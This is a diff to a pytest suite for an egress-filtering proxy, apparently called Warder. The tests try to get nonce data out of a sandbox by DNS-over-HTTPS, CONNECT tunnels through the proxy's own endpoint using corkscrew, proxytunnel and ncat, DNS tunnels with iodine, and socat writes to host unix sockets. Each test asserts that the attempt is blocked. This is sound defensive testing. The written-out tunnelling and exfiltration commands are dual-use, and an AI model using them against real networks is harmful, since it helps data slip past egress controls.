@@ -14,7 +14,7 @@ from pathlib import Path
 
 import pytest
 
-from support.bench import INSIDE, PYTHON, REPO
+from support.bench import INSIDE, PYTHON
 from support.daemon import TOKEN, Daemon
 from support.echo import echo_origin
 from support.marks import both_users
@@ -57,7 +57,7 @@ BY_NAME = '"CONNECT", "authority": "http://hproxy.test".*"deny"'
 HPING = "printf NONCE >/tmp/NONCE; timeout 3 hping3 {} -c 1 -d 64 -E /tmp/NONCE -q " + THERE
 TOOLS = {
     "iodine": Tool(
-        tunnelled(f"iodine -f -r -P pw {IODINE} t.tunnel.test", to_port(7777, "10.53.0.1")),
+        tunnelled(f"iodine -f -r -T NULL -m 500 -L0 -P pw {IODINE} t.tunnel.test", to_port(7777, "10.53.0.1")),
         ("iodined", "-f", "-c", "-P", "pw", "-l", IODINE, "10.53.0.1/27", "t.tunnel.test")),
     "dns2tcp": Tool(
         tunnelled(f"dns2tcpc -z d.tunnel.test -k pw -r nonce -l 2222 {DNS2TCP}", to_port(2222)),
@@ -415,3 +415,120 @@ def test_attack_by_packets_of_every_kind_gets_nothing_out(near, policy):
         assert recorded(done.records, f"{nonce}-{name}.*name_not_allowed"), (name, done)
     for place in (rf"{THERE}:7777", r"fd99::2\]:7777", rf"{THERE}:443"):
         assert recorded(done.records, f"{place}.*deny"), (place, done.records)
+
+
+# -- by what is allowed ------------------------------------------------------------------------------
+@both_users
+def test_attack_by_dns_over_https_at_an_allowed_host(near):
+    """Its other path is as closed as another host: RFC 8484 by GET and by POST, and a resolver's own address."""
+    near.config(rules=ONE, grants=[], secrets={})
+    nonce = secrets.token_hex(16)
+    done, packets = near.hood.packets_of(lambda: near.run(
+        f"""curl -sS https://api.test/ok; cd /tmp; printf '\\0\\1{nonce}' >query
+        post="curl -sS -m 5 -w %{{http_code}}\\n -o /dev/null --data-binary @query -H Content-Type:application/dns-message"
+        curl -sS -w '%{{http_code}}\\n' -o /dev/null 'https://api.test/dns-query?dns={nonce}'
+        $post https://api.test/dns-query; $post https://api.test/ok/../dns-query --path-as-is
+        $post --resolve doh.test:443:{THERE} https://doh.test/dns-query
+        $post --connect-to doh.test:443:api.test:443 https://doh.test/dns-query
+        $post -k https://{THERE}/dns-query; true"""))
+    assert done.text.split()[:3] == ["ok403", "403", "400"], done
+    assert "200" not in done.text, done
+    assert [r.target for r in near.origin.requests] == ["/ok"], near.origin.requests
+    assert not came(near.hood, nonce, packets), done
+    only_allowed(packets, "one", done)
+    assert recorded(done.records, "https://api.test.*path_not_allowed"), done.records
+    assert recorded(done.records, "doh.test.*(host_not_allowed|authority_mismatch)"), done.records
+
+
+PROXY_CLIENTS = {
+    "corkscrew": "(echo NONCE; sleep 1) | timeout 3 corkscrew 127.0.0.1 PORT HOST TO /tmp/NONCE.auth",
+    "proxytunnel": f"echo NONCE | timeout 3 proxytunnel -q -p 127.0.0.1:PORT -P warder:{TOKEN} -d HOST:TO",
+    "ncat": "(echo NONCE; sleep 1) | timeout 3 ncat --proxy 127.0.0.1:PORT --proxy-type http "
+            f"--proxy-auth warder:{TOKEN} HOST TO",
+}
+
+
+def test_attack_through_warders_own_connect(near):
+    """With the session's token: to the tunnel itself, by name and address; to a host of which another path is
+    allowed; and with bytes that are no TLS to one that is allowed."""
+    aims = [(THERE, 7777), ("tunnel.test", 7777), (f"{PROXY}", 3128), ("hproxy.test", 443), ("hproxy.test", 80),
+            ("api.test", 443), ("api.test", 7777)]
+    with Daemon(near, [{"type": "connect", "name": "in", "token": {"env": "PROXY_TOKEN"}}], rules=PATH, grants=[],
+                secrets={}) as gateway:
+        nonces, running = {}, []
+
+        def attack():
+            for name, client in PROXY_CLIENTS.items():
+                for host, to in aims:
+                    nonce = nonces[name, host, to] = secrets.token_hex(16)
+                    Path(f"/tmp/{nonce}.auth").write_text(f"warder:{TOKEN}\n")
+                    words = fill(client, nonce, 1).replace("PORT", str(gateway.ports["in"])).replace("HOST", host)
+                    running.append(near.hood.client.start(["sh", "-c", words.replace("TO", str(to))]))
+            for process in running:
+                process.wait(30)
+        _, packets = near.hood.packets_of(attack)
+        for nonce in nonces.values():
+            Path(f"/tmp/{nonce}.auth").unlink()
+        assert [key for key, nonce in nonces.items() if came(near.hood, nonce, packets)] == []
+        # A TLS connection to api.test may be made, to learn what it speaks; nothing else.
+        strange = [p for p in packets if (p.to, p.protocol, p.port) != ALLOWED]
+        assert not strange, "\n".join(map(str, strange[:10]))
+        assert near.origin.requests == []
+        refused = [(r["authority"], r["reason"]) for r in gateway.records("intent", len(nonces))
+                   if r["decision"] == "deny" and r["reason"] != "not_authenticated"]
+        # proxytunnel names the proxy itself as Host: that is no CONNECT to what it says.
+        assert refused.count(("", "malformed_request")) == len(aims), refused
+        for host, to in aims:       # the default port of a scheme is not written
+            place = re.compile(rf"://{re.escape(host)}{'' if to in (80, 443) else f':{to}'}$")
+            found = [one for one in refused if place.search(one[0])]
+            assert len(found) >= len(PROXY_CLIENTS) - 1, (host, to, refused)
+
+
+def test_with_a_rule_for_it_the_same_client_arrives(near):
+    """That nothing came above is Warder's doing, and not that of a sandbox in which nothing works."""
+    near.connect["raw.test:7777"] = f"{THERE}:7777"
+    near.config(rules=[{"name": "raw", "hosts": ["raw.test"], "ports": [7777], "action": "tcp"}], grants=[], secrets={})
+    nonce = secrets.token_hex(16)
+    client = TOOLS["socat TCP"].client.replace(THERE, "raw.test")
+    done, packets = near.hood.packets_of(lambda: near.run(fill(client, nonce, 1)))
+    assert came(near.hood, nonce, packets), done
+    assert {(p.to, p.protocol, p.port) for p in packets} == {(THERE, 6, 7777)}, done
+
+
+@both_users
+def test_attack_by_unix_sockets_of_the_host(near):
+    """Abstract names belong to a network: here to the very one that warder runs in. Paths do not."""
+    nonce, reached = secrets.token_hex(8), []
+    paths = [f"/tmp/{nonce}.sock", f"/run/{nonce}.sock", f"/dev/shm/{nonce}.sock", f"/var/tmp/{nonce}.sock",
+             str(near.home / "h.sock")]
+
+    def listen(address):
+        made = socket.socket(socket.AF_UNIX)
+        made.bind(address)
+        made.listen()
+        made.setblocking(False)
+        if not address.startswith("\0"):
+            os.chmod(address, 0o777)
+        return made
+    listeners = {a: near.hood.client.run(lambda a=a: listen(a)) for a in (f"\0{nonce}", *paths)}
+    reach = ["abstract-connect:" + nonce, *(f"unix-connect:{p}" for p in paths)]
+    attack = "; ".join(f"echo {nonce} | timeout 3 socat -u - {where} && echo reached" for where in reach)
+    try:
+        control = subprocess.run([*near.hood.client.prefix, "sh", "-c", attack], capture_output=True, text=True)
+        assert control.stdout.count("reached") == len(reach), control
+        for one in listeners.values():
+            one.accept()[0].close()
+        near.config(rules=[], grants=[], secrets={})
+        done = near.run(attack + "; echo over")
+        for address, one in listeners.items():
+            try:
+                one.accept()[0].close()
+                reached.append(address)
+            except BlockingIOError:
+                pass
+        assert reached == [] and done.text == "over\n", done
+    finally:
+        for address, one in listeners.items():
+            one.close()
+            if not address.startswith("\0"):
+                os.unlink(address)
